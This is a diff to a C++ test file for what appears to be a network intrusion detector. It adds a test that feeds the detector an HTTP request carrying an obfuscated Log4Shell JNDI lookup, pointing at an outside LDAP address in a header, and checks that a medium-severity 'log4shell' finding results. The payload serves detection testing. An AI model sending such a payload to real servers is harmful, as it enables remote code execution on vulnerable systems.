@@ -91,6 +91,15 @@ TEST_F(WebAttackTest, IsOneFindingWithItsRequestsCounted) {
   EXPECT_EQ(over_[0].packets, 10U);
 }
 
+TEST_F(WebAttackTest, StandsInAnyField) {
+  send(kToServer, VDT_IP_TCP,
+       tcp(30000, 8080, 0x18, {},
+           text("GET / HTTP/1.1\r\nHost: h\r\nX-Api-Version: ${${lower:J}ndi:ldap://203.0.113.9/a}\r\n\r\n")),
+       1s);
+  finish();
+  EXPECT_EQ(severity_of("log4shell"), Severity::kMedium);
+}
+
 TEST_F(WebAttackTest, IsNotWhatSoundRequestsHold) {
   for (const std::string_view target : {"/",
                                         "/a/b/../c",
